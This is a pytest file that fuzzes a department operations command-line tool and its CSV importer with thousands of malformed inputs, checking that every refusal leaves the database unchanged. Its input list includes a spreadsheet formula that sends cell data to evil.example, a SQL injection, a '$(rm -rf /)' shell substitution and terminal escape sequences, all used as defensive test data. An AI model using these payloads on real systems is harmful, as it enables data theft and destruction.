"""The generated-input campaign of issue 14: every write command and the importer, each value of
each command replaced in turn by inputs an attacker or a tired user would type (control
characters, 10,000 characters, dates of year 1 and 9999, numbers past 2^63, digits that are not
0-9, formulas, unknown ids...), at least 10,000 cases a run, on SQLite and on PostgreSQL alike.

For every case: no internal error, exit 0, 1 or 2 with a message, and a refusal changes nothing
(nothing committed: SQLite's data_version, on PostgreSQL a counter moved by a trigger on every
table). At the end, every row
on file is within the limits (csops.limits.stored_row_problem): nothing outside them was ever
accepted. The figures are printed at the end of the run."""

from __future__ import annotations

import os
import random
import time

import pytest

from conftest import FIGURES, ON_PG, pg_url
from reliability.committed import Committed

pytestmark = pytest.mark.slow  # a long campaign: CI runs it; `pytest -m 'not slow'` for the quick loop

CASES = int(os.environ.get("CSOPS_CAMPAIGN_CASES", "10000"))
NOW = "2026-11-27T10:00"

NASTY = [
    "",
    " ",
    "\x00",
    "\x1b[2J\x1b]0;owned\x07",
    "a\nb",
    "a\rb",
    "a\tb",
    "line\n",
    "\u202eevil",
    "x" * 10_000,
    "长" * 300,
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=2+3",
    "+1",
    "-1",
    "@SUM(A1)",
    "0",
    "-0",
    "2147483648",
    "99999999999999999999",
    "1e9",
    "NaN",
    "inf",
    "²",
    "１２",
    "٣",
    "2026-02-30",
    "2026-13-01",
    "1900-01-01",
    "0001-01-01",
    "9999-12-31",
    "2100-01-01",
    "11/12/2026",
    "25:00",
    "24:00",
    "-5:00",
    "今天",
    "明天",
    "'; DROP TABLE staff; --",
    "$(rm -rf /)",
    "#999999",
    "#0",
    "ghost",
    "张伟🙂",
    "default",
]

# Every write command, as a line that does its work in the campaign's department (the user first).
# The values after the command's words are what the campaign replaces, one at a time or two at once.
WRITES = [
    ("boss", ["staff", "add", "--login", "new.one", "--name", "新人", "--role", "rep", "--superior", "sup1"]),
    ("boss", ["staff", "edit", "rep2", "--name", "张伟", "--email", "z@example.com", "--team", "运作一组"]),
    ("boss", ["staff", "edit", "rep2", "--start", "08:30", "--superior", "sup1"]),
    ("boss", ["staff", "deactivate", "temp1"]),
    ("boss", ["policy", "set", "meeting.points", "12", "--from", "2026-12-01", "--reason", "部门会议"]),
    ("boss", ["calendar", "set", "2026-12-31", "holiday", "--name", "公司年会"]),
    (
        "rep1",
        ["leave", "request", "--type", "personal", "--from", "2026-12-02", "--to", "2026-12-02", "--reason", "事"],
    ),
    ("sup1", ["leave", "approve", "1", "--note", "同意"]),
    ("sup1", ["leave", "reject", "1", "--reason", "旺季"]),
    ("rep1", ["leave", "cancel", "1"]),
    ("rep1", ["leave", "back", "1", "--at", "2026-12-02 14:00"]),
    ("sup1", ["duty", "log", "--staff", "on1", "--date", "2026-11-26", "--end", "22:30"]),
    ("boss", ["duty", "mark", "2027-03-13", "--note", "备货"]),
    ("boss", ["duty", "unmark", "2027-03-13"]),
    ("boss", ["duty", "roster", "--month", "2027-04", "--write"]),
    ("sup2", ["duty", "swap", "2026-11-07", "--staff", "on2"]),
    ("on1", ["duty", "comp-rest", "take", "--date", "2026-12-03"]),
    ("desk", ["attendance", "record", "--date", "2026-11-26", "--staff", "rep1", "--in", "08:55"]),
    ("desk", ["attendance", "away", "--staff", "rep1", "--from", "2026-11-26 14:00", "--to", "2026-11-26 14:25"]),
    ("boss", ["attendance", "start", "--staff", "rep1", "--date", "2026-12-01", "--at", "10:00"]),
    (
        "rep1",
        [
            "receipt",
            "add",
            "--client",
            "华东电子",
            "--shipment",
            "S9",
            "--ship-date",
            "2026-11-20",
            "--team",
            "运作一组",
        ],
    ),
    (
        "rep1",
        [
            "receipt",
            "add",
            "--client",
            "#1",
            "--shipment",
            "S8",
            "--ship-date",
            "2026-11-21",
            "--team",
            "运作二组",
            "--consignee",
            "1",
            "--copies",
            "2",
        ],
    ),  # noqa: E501
    ("rep1", ["receipt", "return", "C1", "--date", "2026-11-20"]),
    ("rep1", ["receipt", "return", "C1", "--unqualified", "--reason", "未签字"]),
    ("rep1", ["receipt", "confirm", "C2", "--date", "2026-11-21"]),
    ("rep1", ["receipt", "resign", "C2", "--date", "2026-11-22"]),
    ("rep1", ["receipt", "workorder", "--team", "运作一组", "--note", "加急", "--shipment", "S7"]),
    ("boss", ["client", "add", "北方日化", "--contact", "王经理", "--phone", "021-5555", "--address", "上海"]),
    ("boss", ["client", "edit", "华东电子", "--signing", "须盖章", "--damage", "拍照", "--stacking", "不超三层"]),
    ("rep1", ["consignee", "add", "--client", "华东电子", "--name", "北仓", "--address", "北京", "--phone", "010"]),
    ("rep1", ["consignee", "mismatch", "1", "--field", "phone", "--actual", "021-6666", "--reported-by", "ops1"]),
    ("rep1", ["consignee", "confirm", "1"]),
    ("asst", ["meeting", "schedule", "--from", "2026-12-01", "--limit", "2"]),
    ("asst", ["meeting", "signin", "1", "--staff", "rep1"]),
    ("asst", ["meeting", "item", "1", "华东电子回单延误", "--owner", "rep1", "--due", "2026-11-30"]),
    ("asst", ["meeting", "item-edit", "1", "--text", "新的文字", "--owner", "rep2"]),
    ("asst", ["meeting", "item-done", "1"]),
    ("rep1", ["meeting", "feedback", "1", "第三项负责人应为张伟"]),
    (
        "rep1",
        ["expense", "add", "--date", "2026-11-26", "--client", "华东电子", "--guests", "王经理", "--amount", "350.00"],
    ),  # noqa: E501
    ("asst", ["expense", "record", "1"]),
    (
        "rep1",
        ["inquiry", "open", "--client", "华东电子", "--question", "货到哪了", "--shipment", "C1", "--channel", "phone"],
    ),  # noqa: E501
    ("rep1", ["inquiry", "answer", "1", "已签收"]),
    ("rep1", ["report", "file", "--category", "problem", "收货方拒签", "--recipient", "sup1"]),
    ("sup1", ["report", "inform", "1"]),
    ("sup1", ["report", "close", "1"]),
    (
        "boss",
        ["keys", "add", "rep2", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB6iPnZkNnpD0kH3Ux9aVl4cRyGmJ6x9wqUO3i5pQk5D"],
    ),
]
IMPORT_HEADER = "shipment_no,client,ship_date,team,consignee_id,copies\n"
IMPORT_LINE = ["K1", "华东电子", "2026-11-20", "运作一组", "1", "1"]


def _values(argv: list[str]) -> list[int]:
    """The positions a case may replace: every word after the command's own words (options'
    values and arguments), never an option's name."""
    words = 2 if argv[0] != "duty" or argv[1] != "comp-rest" else 3
    return [i for i in range(words, len(argv)) if not argv[i].startswith("--")]


def _cases(rng: random.Random) -> list[tuple[str, str, list[str]]]:
    """Every position of every write command with every nasty value, then random pairs up to
    CASES; the importer's cells likewise (kind "import": argv is the CSV line's cells)."""
    cases: list[tuple[str, str, list[str]]] = []
    for user, argv in WRITES:
        for i in _values(argv):
            for v in NASTY:
                cases.append(("cli", user, [*argv[:i], v, *argv[i + 1 :]]))
    for i in range(len(IMPORT_LINE)):
        for v in NASTY:
            if "\n" not in v and "\r" not in v:  # a line break makes another CSV line: its own case below
                cases.append(("import", "rep1", [*IMPORT_LINE[:i], v, *IMPORT_LINE[i + 1 :]]))
    while len(cases) < CASES:
        user, argv = rng.choice(WRITES)
        places = _values(argv)
        argv = list(argv)
        for i in rng.sample(places, min(2, len(places))):
            argv[i] = rng.choice(NASTY)
        cases.append(("cli", user, argv))
    rng.shuffle(cases)
    return cases[:CASES]


@pytest.fixture
def campaign_world(dept, tmp_path):
    cli = dept
    cli.ok("client", "add", "华东电子", now=NOW)
    cli.ok(
        "consignee", "add", "--client", "华东电子", "--name", "上海仓", "--address", "上海", "--phone", "021", now=NOW
    )
    for no, day in (("C1", "2026-11-02"), ("C2", "2026-11-03")):
        cli.ok(
            "receipt",
            "add",
            "--client",
            "华东电子",
            "--shipment",
            no,
            "--ship-date",
            day,
            "--team",
            "运作一组",
            now=NOW,
        )
    cli.ok("receipt", "return", "C2", "--date", "2026-11-10", now=NOW)
    cli.ok("staff", "add", "--login", "temp1", "--name", "临时", "--role", "rep", "--superior", "sup1", now=NOW)
    cli.ok("meeting", "schedule", "--from", "2026-11-01", "--limit", "1", now=NOW)
    cli.ok("duty", "mark", "2026-11-07", "2026-11-08", now=NOW)
    cli.ok("duty", "roster", "--month", "2026-11", "--write", now=NOW)
    cli.ok("leave", "request", "--type", "personal", "--from", "2026-12-02", "--to", "2026-12-02", user="rep1", now=NOW)
    cli.ok(
        "expense",
        "add",
        "--date",
        "2026-11-26",
        "--client",
        "华东电子",
        "--guests",
        "王",
        "--amount",
        "10",
        user="rep1",
    )
    cli.ok("inquiry", "open", "--client", "华东电子", "--question", "q", user="rep1", now=NOW)
    cli.ok("report", "file", "--category", "problem", "x", user="rep1", now=NOW)
    from conftest import config_text

    (tmp_path / "csops.toml").write_text(
        config_text(f'[ssh]\nauthorized_keys = "{tmp_path / "authorized_keys"}"\n'), encoding="utf-8"
    )
    return cli


def _short(args: list[str]) -> str:
    return " ".join(repr(a[:30]) if len(a) > 30 or not a.isprintable() else a for a in args)


def _changed(before: dict, after: dict) -> list[str]:
    return sorted(t for t in after if after[t] != before.get(t))


def _outside_limits(argv: list[str]) -> str | None:
    from csops.cli.app import MULTILINE_OPTIONS
    from csops.limits import control_character

    for opt, value in zip(argv, argv[1:], strict=False):
        multiline = opt[2:].replace("-", "_") in MULTILINE_OPTIONS
        if opt.startswith("--") and not value.startswith("--") and control_character(value, multiline=multiline):
            return value
    return None


@pytest.fixture
def shared_engine(monkeypatch):
    """PostgreSQL: the campaign's commands share one engine, as commands in one long-lived process
    would (its pool and its compiled statements), instead of starting a server backend and
    compiling every statement afresh for each of 10,000 commands: that was half of the
    campaign's time. Each command still has its own session and transaction, and the check is of
    what was committed, so nothing the campaign asserts depends on it."""
    if not ON_PG:
        yield
        return
    import csops.db

    real, engines = csops.db.make_engine, {}

    def make_engine(url, *, create=False):
        if url not in engines:
            engine = engines[url] = real(url, create=create)
            engine.dispose = lambda close=True: None  # kept for the next command
        return engines[url]

    monkeypatch.setattr(csops.db, "make_engine", make_engine)
    yield
    for engine in engines.values():
        type(engine).dispose(engine)


def test_ten_thousand_generated_inputs_no_internal_error_nothing_outside_the_limits(
    campaign_world, shared_engine, tmp_path
):
    cli = campaign_world
    cases = _cases(random.Random(14))
    digest = Committed()
    figures = {"cases": 0, "accepted": 0, "refused 1": 0, "refused 2": 0, "import": 0}
    problems: list[str] = []
    baseline = digest()
    t0 = time.perf_counter()
    csv = tmp_path / "campaign.csv"
    for kind, user, argv in cases:
        if kind == "import":
            csv.write_text(IMPORT_HEADER + ",".join(argv) + "\n", encoding="utf-8")
            args = ["receipt", "import", str(csv)]
            figures["import"] += 1
        else:
            args = argv
        r = cli(*args, user=user, now=NOW)
        figures["cases"] += 1
        label = f"{user}: {_short(args)}"
        if r.exception is not None and not isinstance(r.exception, SystemExit):
            problems.append(f"exception {type(r.exception).__name__} in {label}")
        if "internal error" in r.output or "Traceback" in r.output:
            problems.append(f"internal error in {label}: {r.output.strip()[:200]}")
        after = digest()
        if r.exit_code == 0:
            figures["accepted"] += 1
            figures["seen changing"] = figures.get("seen changing", 0) + (after != baseline)
            if kind == "cli" and _outside_limits(args) is not None:
                problems.append(f"accepted outside the limits: {label}")
        else:
            figures[f"refused {r.exit_code}"] = figures.get(f"refused {r.exit_code}", 0) + 1
            if r.exit_code not in (1, 2) or not r.output.strip():
                problems.append(f"exit {r.exit_code} without a message: {label}")
            if after != baseline:
                problems.append(f"a refusal changed {_changed(baseline, after)}: {label}")
        baseline = after
        if len(problems) > 20:
            break
    digest.close()
    elapsed = time.perf_counter() - t0

    # nothing on file lies outside the limits: whatever was accepted was within them
    from sqlmodel import Session, select

    from csops.config import to_url
    from csops.db import make_engine
    from csops.limits import stored_row_problem
    from csops.models import load_all

    load_all()
    from sqlmodel import SQLModel

    engine = make_engine(pg_url(os.environ["CSOPS_TEST_DBNAME"]) if ON_PG else to_url(os.environ["CSOPS_DB"]))
    with Session(engine) as s:
        for mapper in SQLModel._sa_registry.mappers:  # noqa: SLF001 - every table class
            for obj in s.exec(select(mapper.class_)):
                reason = stored_row_problem(obj)
                if reason:
                    problems.append(f"on file outside the limits: {reason}")
    engine.dispose()
    FIGURES.append(
        f"campaign ({'PostgreSQL' if ON_PG else 'SQLite'}): {figures['cases']} generated inputs to "
        f"{len(WRITES)} write commands and the importer ({figures['import']} import files) in {elapsed:.0f} s: "
        f"{figures['accepted']} accepted within the limits, {figures['refused 1']} refused (exit 1), "
        f"{figures['refused 2']} refused (exit 2), {len(problems)} problems"
    )
    assert figures["cases"] == CASES or problems, figures
    assert figures.get("seen changing", 0) > 0, "the check never saw an accepted write change the database"
    assert not problems, "\n".join(problems[:20])
